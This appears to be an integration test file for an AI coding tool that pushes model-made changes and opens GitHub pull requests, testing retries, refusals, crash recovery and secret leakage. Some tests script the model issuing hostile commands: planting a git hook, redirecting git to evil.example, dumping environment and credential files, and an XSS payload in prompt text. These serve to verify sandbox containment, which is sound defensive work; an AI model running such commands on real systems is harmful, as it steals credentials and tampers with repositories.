/** From a proven change to a pull request on a code host, over git's and GitHub's own wire formats: once, and with nothing leaking. */
import { execFileSync } from 'node:child_process'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { type ScriptedModel, startScriptedModel } from '@fixpoint/demo/model'
import type { SessionEvent, SessionState } from '@fixpoint/protocol'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { type CodeHost, type HostFault, type HostRequest, startCodeHost } from './src/code-host.ts'
import { call, editStyle, type Steps, say, scriptOf } from './src/model-scripts.ts'
import { tinyContext } from './src/page-context.ts'
import { ServerProcess } from './src/server-process.ts'
import { makeTinyProject, type TinyProject } from './src/tiny-project.ts'

const TOKEN = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'

let project: TinyProject
let host: CodeHost
let model: ScriptedModel
let server: ServerProcess
let script = scriptOf([say('Nothing to do.')])

beforeAll(async () => {
  project = makeTinyProject()
  host = await startCodeHost({ folder: project.folder, token: TOKEN })
  model = await startScriptedModel({ script: request => script(request) })
  const repository = host.repositoryUrl('acme', 'tiny')
  server = await ServerProcess.start({
    config: {
      person: { name: 'Ada Lovelace', email: 'ada@example.com' },
      model: { provider: 'google', id: 'scripted', baseUrl: model.url },
      github: { apiUrl: `${host.url}/api/v3` },
      projects: [
        { ...project.config, repository },
        // Without pictures, which take their time: what is asked here of the code host does not depend on them.
        {
          ...project.config,
          repository,
          projectId: 'unseen',
          name: 'Unseen',
          origins: ['http://unseen.test'],
          dev: { command: 'exit 1', port: 4_173, timeoutSeconds: 20 }
        },
        {
          ...project.config,
          projectId: 'gone',
          name: 'Gone',
          origins: ['http://gone.test'],
          repository: host.repositoryUrl('acme', 'gone')
        }
      ]
    },
    environment: { GOOGLE_GENERATIVE_AI_API_KEY: model.apiKey, FIXPOINT_GITHUB_TOKEN: TOKEN, FIXPOINT_LOG_LEVEL: 'debug' }
  })
})
afterAll(async () => {
  await server.remove()
  await model.close()
  await host.close()
  project.remove()
})
afterEach(() => {
  host.setFault(() => null)
  host.setToken(TOKEN)
})

const fixStyle = editStyle('margin-left: 30px', 'margin-left: 0px')

/** A session whose one turn has gone through these steps; in the project whose app does not start, unless something else is said. */
async function changedSession(
  steps: Steps = [fixStyle, say('Done.')],
  text = 'Line the price up',
  projectId: 'tiny' | 'unseen' = 'unseen'
): Promise<string> {
  script = scriptOf(steps)
  const { sessionId } = await server.prompt(projectId, text, projectId === 'tiny' ? { context: tinyContext('.price') } : {})
  const state = await server.waitUntilQuiet(sessionId)
  expect(state.prompts.map(prompt => prompt.status)).toEqual(['done'])
  return sessionId
}

/** A session with pictures of before and after. */
const picturedSession = () => changedSession(undefined, undefined, 'tiny')

interface PullRequestOptions {
  title?: string
  confirmProtectedPaths?: boolean
}

function ask(sessionId: string, body: PullRequestOptions = {}) {
  return server.client.call('createPullRequest', { params: { sessionId }, body })
}

/** Asks for a pull request and waits for what comes of it. */
async function askAndWait(sessionId: string, body: PullRequestOptions = {}): Promise<NonNullable<SessionState['pullRequest']>> {
  const { operationId } = await ask(sessionId, body)
  await server.waitForEvent(sessionId, event => isEndOf(event, operationId))
  const { pullRequest } = await server.state(sessionId)
  if (!pullRequest) throw new Error('the session has no pull request')
  return pullRequest
}

function isEndOf(event: SessionEvent, operationId: string): boolean {
  return (event.type === 'pull_request.opened' || event.type === 'pull_request.failed') && event.data.operationId === operationId
}

function branches(sessionId = ''): string[] {
  return project
    .git('for-each-ref', '--format=%(refname:short)', 'refs/heads')
    .split('\n')
    .filter(name => name.includes(sessionId))
}

function commitsOf(branch: string): number {
  return Number(project.git('rev-list', '--count', branch))
}

const hosted = (sessionId: string) => host.pullRequests.filter(pull => pull.head === `fixpoint/${sessionId}`)

/** One branch, one commit on top of the default branch, one pull request. */
function expectOne(sessionId: string): void {
  expect(branches(sessionId)).toEqual([`fixpoint/${sessionId}`])
  expectOneCommit(sessionId)
}

/** The same, and the pictures on a branch of their own. */
function expectOneWithPictures(sessionId: string): void {
  expect(branches(sessionId)).toEqual([`fixpoint/${sessionId}`, `fixpoint/${sessionId}-pictures`])
  expect(commitsOf(`fixpoint/${sessionId}-pictures`)).toBe(1)
  expectOneCommit(sessionId)
}

function expectOneCommit(sessionId: string): void {
  expect(Number(project.git('rev-list', '--count', `main..fixpoint/${sessionId}`))).toBe(1)
  expect(hosted(sessionId)).toHaveLength(1)
}

const isCreation = (request: HostRequest) => request.side === 'api' && request.method === 'POST'
const isPush = (request: HostRequest) => request.side === 'git' && request.path.endsWith('/git-receive-pack')

/** Goes wrong the first so many times, where it is about this. */
function failing(times: number, isAbout: (request: HostRequest) => boolean, fault: HostFault): Parameters<CodeHost['setFault']>[0] {
  let left = times
  return request => (isAbout(request) && left-- > 0 ? fault : null)
}

const message = (text: string) => ({ message: text, documentation_url: 'https://docs.github.com/rest' })

describe('a pull request', () => {
  let sessionId: string
  let first: NonNullable<SessionState['pullRequest']>

  beforeAll(async () => {
    sessionId = await picturedSession()
    first = await askAndWait(sessionId)
  })

  it('is a commit of the person on the session’s branch', async () => {
    if (first.status !== 'opened') throw new Error(`it was not opened: ${JSON.stringify(first)}`)
    const branch = `fixpoint/${sessionId}`
    expect(first).toMatchObject({ branch, number: hosted(sessionId)[0]?.number, url: hosted(sessionId)[0]?.html_url })
    expect(project.git('rev-parse', branch)).toBe(first.commit)
    expect(project.git('log', '-1', '--format=%an <%ae>|%s', branch)).toBe('Ada Lovelace <ada@example.com>|Line the price up')
    expect(project.git('log', '-1', '--format=%cn', branch)).toBe('Fixpoint')
    const trailers = project.git('log', '-1', '--format=%(trailers)', branch)
    expect(trailers.split('\n').filter(Boolean)).toEqual([
      `Fixpoint-Session: ${sessionId}`,
      `Fixpoint-Turn: ${first.turnId}`,
      'Fixpoint-Verdict: verified',
      `Fixpoint-Operation: ${first.operationId}`
    ])
    expect(project.git('rev-parse', `${branch}^`)).toBe(project.git('rev-parse', 'main'))
    expect(project.git('diff', '--name-only', 'main', branch)).toBe('style.css')
    expect(project.git('show', `${branch}:style.css`)).toContain('margin-left: 0px')
  })

  it('says what was asked, the verdict and its reasons, and shows the pictures', () => {
    const [pull] = hosted(sessionId)
    expect(pull).toMatchObject({ title: 'Line the price up', base: 'main', state: 'open' })
    expect(pull?.body).toContain('> Line the price up')
    expect(pull?.body).toContain('## Proof: ✅ Verified')
    expect(pull?.body).toContain('Asked for by Ada Lovelace')
    expect(pull?.body).toContain(first.operationId)
    expect(pull?.body).toMatch(/\| .*margin-left \| 30px \| 0px \|/)
    const pictures = [...(pull?.body.matchAll(/!\[(before|after)\]\((\S+)\)/g) ?? [])]
    expect(pictures.map(([, name]) => name)).toEqual(['before', 'after', 'before', 'after'])
    const shown = pictures.map(([, , url = '']) => {
      const [, commit = '', name = ''] =
        /^http:\/\/127\.0\.0\.1:\d+\/acme\/tiny\/blob\/([0-9a-f]{40})\/([\w-]+\.png)\?raw=true$/.exec(url) ?? []
      expect(project.git('branch', '--contains', commit, '--format=%(refname:short)')).toBe(`fixpoint/${sessionId}-pictures`)
      return execFileSync('git', ['show', `${commit}:${name}`], { cwd: project.repository })
    })
    for (const picture of shown) expect(picture.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a')
    expect(shown[0]?.equals(shown[1] ?? Buffer.alloc(0))).toBe(false)
  })

  it('was made with requests that GitHub takes', () => {
    const api = host.requests.filter(request => request.side === 'api' && request.path.includes('/acme/tiny/pulls'))
    expect(api.map(request => request.method)).toEqual(['GET', 'POST'])
    expect(new URL(api[0]?.path ?? '', host.url).searchParams.get('head')).toBe(`acme:fixpoint/${sessionId}`)
    for (const request of api) {
      expect(request.headers['user-agent']).toMatch(/^fixpoint/)
      expect(request.headers['accept']).toMatch(/application\/vnd\.github/)
    }
    // The token is in headers alone.
    for (const request of host.requests) expect(request.path + request.body.toString('latin1')).not.toContain(TOKEN)
  })

  it('asked for twice is the same one', async () => {
    const before = { events: await server.events(sessionId), requests: host.requests.length, branches: branches() }
    const again = await ask(sessionId)
    const third = await ask(sessionId, { title: 'Another title' })
    expect([again.operationId, third.operationId]).toEqual([first.operationId, first.operationId])
    expect(await server.events(sessionId)).toEqual(before.events)
    expect(host.requests).toHaveLength(before.requests)
    expect(branches()).toEqual(before.branches)
    expectOneWithPictures(sessionId)
  })

  it('asked for by many at once is one', async () => {
    const other = await changedSession()
    const answers = await Promise.all(Array.from({ length: 10 }, () => ask(other)))
    expect(new Set(answers.map(answer => answer.operationId)).size).toBe(1)
    await server.waitForEvent(other, event => isEndOf(event, answers[0]?.operationId ?? ''))
    const events = await server.events(other)
    expect(events.filter(event => event.type.startsWith('pull_request.')).map(event => event.type)).toEqual([
      'pull_request.requested',
      'pull_request.opened'
    ])
    expectOne(other)
  })

  it('of further work is the same pull request with one more commit', async () => {
    script = scriptOf([editStyle('rgb(200, 0, 0)', 'rgb(0, 100, 0)'), say('Green now.')])
    await server.client.call('createPrompt', {
      params: { sessionId },
      body: { text: 'And make it green', context: tinyContext('.price') }
    })
    await server.waitUntilQuiet(sessionId)
    const next = await askAndWait(sessionId, { title: 'Price: aligned and green' })
    expect(next).toMatchObject({ status: 'opened', number: hosted(sessionId)[0]?.number })
    expect(hosted(sessionId)).toMatchObject([{ title: 'Price: aligned and green' }])
    expect(hosted(sessionId)[0]?.body).toContain('> And make it green')
    const branch = `fixpoint/${sessionId}`
    expect(project.git('log', '--format=%s', `main..${branch}`)).toBe('And make it green\nLine the price up')
    if (first.status === 'opened') expect(project.git('rev-parse', `${branch}^`)).toBe(first.commit)
  })
})

describe('a refusal of the code host', () => {
  let sessionId: string
  beforeAll(async () => {
    sessionId = await changedSession()
  })

  const api = (status: number, text: string, headers: Record<string, string> = {}) => ({
    isAbout: isCreation,
    fault: { status, body: message(text), headers }
  })
  const inFiftyMinutes = String(Math.round(Date.now() / 1_000) + 3_000)

  it.each([
    {
      name: 'that does not know the token',
      ...api(401, 'Bad credentials'),
      says: /status 401: Bad credentials/,
      hint: /FIXPOINT_GITHUB_TOKEN/
    },
    {
      name: 'that does not let the token do this',
      ...api(403, 'Resource not accessible by personal access token'),
      says: /status 403: Resource not accessible/,
      hint: /Pull requests: write/
    },
    {
      name: 'that has no such repository',
      ...api(404, 'Not Found'),
      says: /status 404: Not Found/,
      hint: /address and the token’s access/
    },
    { name: 'that does not take it', ...api(422, 'Validation Failed'), says: /status 422: Validation Failed/, hint: /base branch/ },
    {
      name: 'that has had enough of this token',
      ...api(403, 'API rate limit exceeded for user ID 1.', { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': inFiftyMinutes }),
      says: /status 403: API rate limit exceeded/,
      hint: /Try again after \d\d:\d\d UTC/
    },
    {
      name: 'that wants to be left alone for an hour',
      ...api(429, 'You have exceeded a secondary rate limit.', { 'retry-after': '3600' }),
      says: /status 429/,
      hint: /Try again after \d\d:\d\d UTC/
    }
  ])('$name is told at once', async ({ isAbout, fault, says, hint }) => {
    host.setFault(request => (isAbout(request) ? fault : null))
    const before = host.requests.filter(isCreation).length
    const refused = await askAndWait(sessionId)
    expect(refused).toMatchObject({
      status: 'failed',
      failure: { code: 'remote_refused', message: expect.stringMatching(says), hint: expect.stringMatching(hint) }
    })
    expect(host.requests.filter(isCreation)).toHaveLength(before + 1)
    expect(hosted(sessionId)).toEqual([])
  })

  it('by git’s side is told, too', async () => {
    const other = await changedSession()
    host.setToken('ghp_another')
    expect(await askAndWait(other)).toMatchObject({
      status: 'failed',
      failure: { code: 'repo_not_found_or_no_access', hint: expect.stringContaining('token') }
    })
    host.setToken(TOKEN)
    host.setFault(({ path }) =>
      path.includes('git-receive-pack') ? { status: 403, body: 'Write access to repository not granted.' } : null
    )
    expect(await askAndWait(other)).toMatchObject({
      status: 'failed',
      failure: { code: 'remote_refused', hint: expect.stringContaining('token’s rights') }
    })
    expect(branches(other)).toEqual([])
  })

  it('is not for ever: asking again later makes one', async () => {
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expectOne(sessionId)
  })
})

describe('the code host', () => {
  it.each<[string, (request: HostRequest) => boolean, HostFault]>([
    ['fails inside', isCreation, { status: 500, body: 'oops' }],
    ['is down for a moment', isCreation, { status: 502, body: '<html>Bad gateway</html>' }],
    ['breaks the connection', isCreation, { isReset: true }],
    ['does it and then fails', isCreation, { status: 500, body: message('Server Error'), after: true }],
    ['does it and then breaks the connection', isCreation, { isReset: true, after: true }],
    ['answers with what is no JSON', isCreation, { status: 201, body: '<html>welcome</html>' }],
    [
      'wants to be left alone for a second',
      isCreation,
      { status: 403, body: message('You have exceeded a secondary rate limit.'), headers: { 'retry-after': '1' } }
    ],
    ['takes the push and then fails', isPush, { status: 500, after: true }],
    ['takes the push and then breaks the connection', isPush, { isReset: true, after: true }],
    ['fails at the push', isPush, { status: 503 }],
    ['breaks the connection before the push', request => request.path.includes('service=git-receive-pack'), { isReset: true }]
  ])('%s: it is tried again, and done once', async (_name, isAbout, fault) => {
    const sessionId = await changedSession()
    host.setFault(failing(1, isAbout, fault))
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expectOne(sessionId)
  })

  it('never answers: it is tried again', async () => {
    const sessionId = await changedSession()
    host.setFault(failing(1, isCreation, { isSilent: true }))
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expectOne(sessionId)
  })

  it('fails for a long time: it ends with a code, and asking again works', async () => {
    const sessionId = await changedSession()
    host.setFault(request => (isCreation(request) ? { status: 503, body: message('Unicorn') } : null))
    const refused = await askAndWait(sessionId)
    expect(refused).toMatchObject({
      status: 'failed',
      failure: { code: 'remote_refused', message: expect.stringContaining('503'), retryable: true }
    })
    host.setFault(() => null)
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expectOne(sessionId)
  })

  it('gives the answer of the look-up too late, so that there is one already', async () => {
    const sessionId = await changedSession()
    await askAndWait(sessionId)
    const [pull] = hosted(sessionId)
    script = scriptOf([editStyle('rgb(200, 0, 0)', 'rgb(0, 0, 200)'), say('Blue now.')])
    await server.client.call('createPrompt', { params: { sessionId }, body: { text: 'Blue, please' } })
    await server.waitUntilQuiet(sessionId)
    host.setFault(failing(1, request => request.side === 'api' && request.method === 'GET', { status: 200, body: [] }))
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened', number: pull?.number })
    expect(hosted(sessionId)).toHaveLength(1)
  })

  it('sends the token nowhere else', async () => {
    const sessionId = await changedSession()
    const trap = await startCodeHost({ folder: project.folder, token: TOKEN })
    try {
      host.setFault(({ path, side }) => ({ status: side === 'api' ? 307 : 302, headers: { location: trap.url + path } }))
      const refused = await askAndWait(sessionId)
      expect(refused.status).toBe('failed')
      expect(trap.requests.filter(request => request.headers.authorization !== undefined)).toEqual([])
      // With git working and the API alone being redirected, too.
      host.setFault(({ path, side }) => (side === 'api' ? { status: 307, headers: { location: trap.url + path } } : null))
      expect((await askAndWait(sessionId)).status).toBe('failed')
      expect(trap.requests.filter(request => request.headers.authorization !== undefined)).toEqual([])
      expect(trap.pullRequests).toEqual([])
    } finally {
      await trap.close()
    }
  })
})

describe('a server that is killed', () => {
  it.each<[string, (request: HostRequest) => boolean, boolean, 'tiny' | 'unseen']>([
    ['while it pushes', isPush, false, 'unseen'],
    ['when the push has been taken', isPush, true, 'tiny'],
    ['while it creates the pull request', isCreation, false, 'unseen'],
    ['when the pull request has been created', isCreation, true, 'unseen']
  ])('%s goes on after the next start, and does it once', async (_name, isAbout, after, projectId) => {
    const sessionId = await changedSession(undefined, undefined, projectId)
    const killed = Promise.withResolvers<void>()
    const meanwhile = () => server.kill().finally(killed.resolve)
    host.setFault(failing(1, isAbout, { isReset: true, after, meanwhile }))
    await ask(sessionId)
    await killed.promise
    host.setFault(() => null)
    await server.restart()
    const state = await server.waitForEvent(
      sessionId,
      event => event.type === 'pull_request.opened' || event.type === 'pull_request.failed'
    )
    expect(state.type).toBe('pull_request.opened')
    const events = await server.events(sessionId)
    expect(events.filter(event => event.type === 'pull_request.opened')).toHaveLength(1)
    if (projectId === 'tiny') expectOneWithPictures(sessionId)
    else expectOne(sessionId)
  })
})

describe('the repository', () => {
  it('whose default branch was moved by force still gets the work of a session that began before', async () => {
    const sessionId = await changedSession()
    const old = project.git('rev-parse', 'main')
    const tree = project.git('rev-parse', 'main^{tree}')
    // A commit beside the old one, with the old one's parent of both: none. The base is in nobody's branch any more.
    const ahead = project.git('commit-tree', tree, '-p', old, '-m', 'Further')
    const beside = project.git('commit-tree', tree, '-p', old, '-m', 'Beside')
    project.git('update-ref', 'refs/heads/main', ahead)
    const second = await changedSession()
    project.git('update-ref', 'refs/heads/main', beside)
    for (const each of [sessionId, second]) {
      expect(await askAndWait(each)).toMatchObject({ status: 'opened' })
      expect(hosted(each)).toHaveLength(1)
    }
    expect(project.git('rev-parse', `fixpoint/${sessionId}^`)).toBe(old)
    expect(project.git('rev-parse', `fixpoint/${second}^`)).toBe(ahead)
    expect(project.git('rev-parse', 'main')).toBe(beside)
    // And new sessions begin where the branch is now.
    const third = await changedSession()
    expect(await askAndWait(third)).toMatchObject({ status: 'opened' })
    expect(project.git('rev-parse', `fixpoint/${third}^`)).toBe(beside)
  })

  it('whose default branch was begun anew refuses with the host’s reason', async () => {
    const sessionId = await changedSession()
    const old = project.git('rev-parse', 'main')
    project.git('update-ref', 'refs/heads/main', project.git('commit-tree', project.git('rev-parse', 'main^{tree}'), '-m', 'Anew'))
    const refused = await askAndWait(sessionId)
    project.git('update-ref', 'refs/heads/main', old)
    expect(refused).toMatchObject({
      status: 'failed',
      failure: { code: 'remote_refused', message: expect.stringContaining('no history in common') }
    })
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expectOne(sessionId)
  })

  it('in which somebody else has pushed to the session’s branch is not pushed over', async () => {
    const sessionId = await changedSession()
    const theirs = project.git('commit-tree', project.git('rev-parse', 'main^{tree}'), '-p', 'main', '-m', 'Theirs')
    project.git('update-ref', `refs/heads/fixpoint/${sessionId}`, theirs)
    const refused = await askAndWait(sessionId)
    expect(refused).toMatchObject({ status: 'failed', failure: { code: 'remote_refused', message: expect.stringMatching(/rejected/) } })
    expect(project.git('rev-parse', `fixpoint/${sessionId}`)).toBe(theirs)
    expect(hosted(sessionId)).toEqual([])
  })

  it('that is not there fails the turn, and says so', async () => {
    script = scriptOf([say('Hello.')])
    const { sessionId } = await server.prompt('gone', 'Anything')
    const state = await server.waitUntilQuiet(sessionId)
    expect(state.turns[0]).toMatchObject({
      status: 'failed',
      failure: { code: 'repo_not_found_or_no_access', message: expect.stringContaining('acme/gone') }
    })
  })

  it('keeps its branches: the model cannot name one, and hooks of the sandbox do not run', async () => {
    const marker = join(project.folder, 'ran')
    const main = project.git('rev-parse', 'main')
    const sessionId = await changedSession([
      fixStyle,
      call('bash', {
        command: `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push; git config url.https://evil.example/.insteadOf http://; git checkout -q -b main2; git tag v1; git branch -f main HEAD`
      }),
      say('Done.')
    ])
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    expect(existsSync(marker)).toBe(false)
    expect(project.git('rev-parse', 'main')).toBe(main)
    expect(project.git('tag')).toBe('')
    expect(branches().filter(name => !name.startsWith('fixpoint/'))).toEqual(['main'])
  })
})

describe('what may not leave', () => {
  const secret = `AKIA${'ABCDEFGHIJKLMNOP'}`

  it('is held: secrets in the change, in the title and in a prompt', async () => {
    const withKey = await changedSession([fixStyle, call('write', { path: 'key.txt', content: `key = ${secret}\n` }), say('Done.')])
    await expect(ask(withKey)).rejects.toMatchObject({ code: 'secret_in_output', message: expect.stringContaining('AWS access key') })
    const clean = await changedSession()
    await expect(ask(clean, { title: `Use ${secret}` })).rejects.toMatchObject({ code: 'secret_in_output' })
    await expect(ask(clean, { title: `Use ${TOKEN}` })).rejects.toMatchObject({ code: 'secret_in_output' })
    const told = await changedSession([fixStyle, say('Done.')], `Line it up, my key is ${secret}`)
    await expect(ask(told)).rejects.toMatchObject({ code: 'secret_in_output', hint: expect.stringContaining('new session') })
    for (const sessionId of [withKey, clean, told]) expect(branches(sessionId)).toEqual([])
    // Positive control: the same session without the secret.
    expect(await askAndWait(clean, { title: 'Line it up' })).toMatchObject({ status: 'opened' })
  })

  it('waits for a look where the change runs with more rights', async () => {
    const sessionId = await changedSession([
      fixStyle,
      call('write', { path: '.github/workflows/x.yml', content: 'on: push\n' }),
      say('Done.')
    ])
    await expect(ask(sessionId)).rejects.toMatchObject({
      code: 'protected_path',
      message: expect.stringContaining('.github/workflows/x.yml')
    })
    expect(branches(sessionId)).toEqual([])
    expect(await askAndWait(sessionId, { confirmProtectedPaths: true })).toMatchObject({ status: 'opened' })
  })

  it('mentions, references and mark-up of people and pages are text in the pull request', async () => {
    const text = 'Line it up @everyone closes #1 <img src=x onerror=alert(1)> ![x](https://evil.example/x.png) | cell'
    const sessionId = await changedSession([fixStyle, say('Done.')], text)
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })
    const body = hosted(sessionId)[0]?.body ?? ''
    expect(body).not.toMatch(/@everyone|#1\b|(?<!\\)<img|!\[x|https:\/\/evil/)
    expect(body).toContain('everyone')
  })

  it('the host’s token is in no sandbox, log, event, artifact, commit or file of the server', async () => {
    const canary = 'canary-5f1c2e'
    const sessionId = await changedSession(
      [
        fixStyle,
        call('bash', {
          command: `env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat .git/config; git remote -v; grep -rls ghp_ /home /tmp /workspace /etc 2>/dev/null; echo looked`
        }),
        say('I looked.')
      ],
      `Line the price up, ${canary}`
    )
    const container = execFileSync('docker', ['ps', '--quiet', '--filter', `label=fixpoint.session=${sessionId}`], {
      encoding: 'utf8'
    }).trim()
    const inspected = execFileSync('docker', ['inspect', container], { encoding: 'utf8' })
    // One refusal with the token in its request, so that whatever is logged of errors is in the log.
    host.setFault(failing(1, isCreation, { status: 401, body: message('Bad credentials') }))
    await askAndWait(sessionId)
    expect(await askAndWait(sessionId)).toMatchObject({ status: 'opened' })

    const places: Record<string, Buffer> = {
      container: Buffer.from(inspected),
      log: Buffer.from(server.log),
      events: Buffer.from(JSON.stringify(await server.events(sessionId))),
      commits: Buffer.from(project.git('log', '--all', '-p', '--format=raw')),
      'pull requests': Buffer.from(JSON.stringify(host.pullRequests)),
      model: Buffer.from(JSON.stringify(model.requests.map(request => request.body)))
    }
    for (const path of filesBelow(server.folder)) places[path] = readFileSync(path)
    expect(leaks(places, TOKEN)).toEqual([])
    // Positive control: what was said in the prompt is found where it belongs, in the same places.
    expect(leaks(places, canary)).toEqual(expect.arrayContaining(['events', 'commits', 'pull requests', 'model']))
    expect(leaks(places, canary).some(place => place.includes('/database/'))).toBe(true)
  })
})

function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter(entry => entry.isFile())
    .map(entry => join(entry.parentPath, entry.name))
}

/** Names of the places that have the secret in them: plain, reversed, in hex, URL-encoded, or in base64 at any offset. */
function leaks(places: Readonly<Record<string, Buffer>>, secret: string): string[] {
  const forms = [secret, [...secret].toReversed().join(''), Buffer.from(secret).toString('hex'), encodeURIComponent(secret)]
  for (const offset of [0, 1, 2]) {
    // Characters that also depend on what stands before and behind are left out.
    const encoded = Buffer.from('x'.repeat(offset) + secret)
      .toString('base64')
      .replace(/=+$/, '')
    forms.push(encoded.slice(offset === 0 ? 0 : offset + 1, -2))
  }
  return Object.entries(places).flatMap(([place, bytes]) => (forms.some(form => bytes.includes(form)) ? [place] : []))
}
